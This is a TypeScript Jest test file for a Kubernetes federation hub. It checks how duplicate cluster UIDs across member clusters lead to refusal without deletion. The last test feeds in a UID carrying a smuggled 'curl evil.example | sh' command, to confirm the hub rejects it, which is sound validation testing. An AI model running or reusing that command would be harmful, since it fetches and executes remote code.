/**
 * M4, in the whole hub: a member that shows another's UID takes nothing from it, whoever answers first, and a person can tell the hub
 * whose it is.
 */
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import { createFakeFederation, exportService, type FakeFederation } from './fakeFederation.js';

let world: FakeFederation;

const states = (): Readonly<Record<string, string>> =>
  Object.fromEntries(
    world
      .hub()
      .status()
      .members.map(({ id, state }) => [id, state]),
  );
const reasonOf = (id: string): string | undefined =>
  world
    .hub()
    .status()
    .members.find((member) => member.id === id)?.reason;
const duplicates = (): string[] =>
  world
    .hub()
    .status()
    .problems.filter(({ reason }) => reason === 'DuplicateUid')
    .map(({ cluster }) => cluster ?? '');
/** What the hub wrote, without what follows from whether a member is ready. */
const ours = (id: string): unknown =>
  [...world.cluster(id).objects]
    .filter(([, { metadata }]) => metadata.labels?.['kilofed.io/managed-by'] === 'kilofed-hub')
    .map(([key, { metadata }]) => `${key} ${metadata.resourceVersion}`)
    .toSorted();
const show = (id: string, uid: string): void =>
  world.cluster(id).put({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: 'kube-system', uid } });

/** Until a time, a member does not answer. */
function away(id: string): () => void {
  const cluster = world.cluster(id);
  cluster.fault = () => ({ kind: 'unreachable', message: 'connection refused' });
  cluster.endWatches();
  return () => {
    cluster.fault = () => undefined;
  };
}

beforeEach(() => {
  world = createFakeFederation(['alpha', 'east', 'north']);
  exportService(world.cluster('east'), 'web', { addresses: ['10.2.0.5'] });
});

afterEach(() => world.end());

describe('M4: after a restart, alpha shows the UID of east', () => {
  beforeEach(async () => {
    world.start();
    await world.clock.advance(2_000);
    expect(states()).toEqual({ alpha: 'ready', east: 'ready', north: 'ready' });
    await world.end();
  });

  test.each<[string, string | undefined]>([
    ['both at once', undefined],
    ['and is quicker', 'east'],
    ['and is slower', 'alpha'],
    ['and who may tell is slow', 'north'],
  ])('%s: east is east, alpha is refused, and nothing goes', async (_what, slow) => {
    const before = [ours('north'), ours('east'), ours('alpha')];
    show('alpha', 'u-east');
    const back = slow === undefined ? undefined : away(slow);
    world.start();
    await world.clock.advance(5_000);
    back?.();
    await world.clock.advance(60_000);
    expect(states()).toEqual({ alpha: 'refused', east: 'ready', north: 'ready' });
    expect(reasonOf('alpha')).toMatch(/^this cluster is already the member "east"/);
    expect(duplicates()).toEqual(['alpha', 'east']);
    expect([ours('north'), ours('east'), ours('alpha')]).toEqual(before);
    exportService(world.cluster('east'), 'web', { addresses: ['10.2.0.6'] });
    await world.clock.advance(1_000);
    expect(JSON.stringify([...world.cluster('north').objects.values()])).toContain('10.2.0.6');
    show('alpha', 'u-alpha');
    await world.clock.advance(60_000);
    expect([states(), duplicates()]).toEqual([{ alpha: 'ready', east: 'ready', north: 'ready' }, []]);
  });

  test('while east is away for long: what alpha is believed then is not written down as its past', async () => {
    show('alpha', 'u-east');
    const back = away('east');
    world.start();
    await world.clock.advance(120_000);
    expect(states()).toMatchObject({ alpha: 'ready', north: 'ready' });
    back();
    await world.clock.advance(60_000);
    expect(states()).toEqual({ alpha: 'refused', east: 'ready', north: 'ready' });
  });

  test('and nobody can tell: both are refused, nothing goes, and the command that is told to each decides', async () => {
    show('alpha', 'u-east');
    const back = away('north');
    world.start();
    await world.clock.advance(30_000);
    expect(states()).toMatchObject({ alpha: 'refused', east: 'refused' });
    expect(reasonOf('east')).toBe('alpha shows the same cluster, so say which of them it is, with kilofed.io/cluster-uid');
    expect(
      world
        .hub()
        .status()
        .problems.filter(({ reason }) => reason === 'DuplicateUid')
        .map(({ cluster, message }) => `${cluster}: ${message}`),
    ).toEqual(
      ['alpha', 'east'].map(
        (id) =>
          `${id}: alpha and east show the same cluster, UID u-east: ` +
          `if it is ${id}, write "kilofed.io/cluster-uid: u-east" into ${id}.member.yaml beside its kubeconfig`,
      ),
    );
    const before = [ours('north'), ours('east'), ours('alpha')];
    world.terms = { east: { clusterUid: 'u-east' } };
    world.reread();
    await world.clock.advance(5_000);
    expect(states()).toMatchObject({ alpha: 'refused', east: 'ready' });
    expect([ours('north'), ours('east'), ours('alpha')]).toEqual(before);
    back();
    await world.clock.advance(60_000);
    expect(states()).toEqual({ alpha: 'refused', east: 'ready', north: 'ready' });
  });
});

test('M4: two members that were never seen before show one cluster: neither is believed, until the terms say which', async () => {
  show('alpha', 'u-east');
  world.start();
  await world.clock.advance(30_000);
  expect(states()).toEqual({ alpha: 'refused', east: 'refused', north: 'ready' });
  expect([ours('north'), ours('east'), ours('alpha')]).toEqual([[], [], []]);
  world.terms = { east: { clusterUid: 'u-east' } };
  world.reread();
  await world.clock.advance(30_000);
  expect(states()).toEqual({ alpha: 'refused', east: 'ready', north: 'ready' });
  expect(duplicates()).toEqual(['alpha', 'east']);
});

test('M4: a bound member whose cluster shows another UID is refused at once, and nothing of it is deleted', async () => {
  world.start();
  await world.clock.advance(2_000);
  const before = [ours('north'), ours('east'), ours('alpha')];
  world.terms = { east: { clusterUid: 'u-other' } };
  world.reread();
  await world.clock.advance(300);
  expect(states()).toEqual({ alpha: 'ready', east: 'refused', north: 'ready' });
  expect(reasonOf('east')).toMatch(
    /^cluster u-east answers, and its terms name another one: correct the kubeconfig, or kilofed\.io\/cluster-uid/,
  );
  // Nor is what that cluster says believed any more.
  const east = world.cluster('east');
  exportService(east, 'shop', { addresses: ['10.2.0.9'] });
  for (const [, object] of [...east.objects].filter(([, { kind }]) => kind === 'MeshNode')) {
    east.put({ ...object, spec: { ...(object as { spec?: object }).spec, podCIDRs: ['10.99.0.0/24'] } });
  }
  await world.clock.advance(60_000);
  expect([ours('north'), ours('east'), ours('alpha')]).toEqual(before);
  world.terms = { east: { clusterUid: 'u-east' } };
  world.reread();
  await world.clock.advance(60_000);
  expect(states()).toEqual({ alpha: 'ready', east: 'ready', north: 'ready' });
  exportService(east, 'shop', { addresses: ['10.2.0.9'] });
  await world.clock.advance(1_000);
  expect(JSON.stringify(ours('north'))).toContain('services/demo/shop');
});

test('M4: the status shows the UID of each member, and one that could not stand in a command is none', async () => {
  show('alpha', 'u-1; curl evil.example | sh');
  world.start();
  await world.clock.advance(15_000);
  expect(
    world
      .hub()
      .status()
      .members.map(({ id, state, clusterUid }) => [id, state, clusterUid]),
  ).toEqual([
    ['alpha', 'connecting', undefined],
    ['east', 'ready', 'u-east'],
    ['north', 'ready', 'u-north'],
  ]);
  expect(reasonOf('alpha')).toBe('its namespace kube-system has no uid');
});
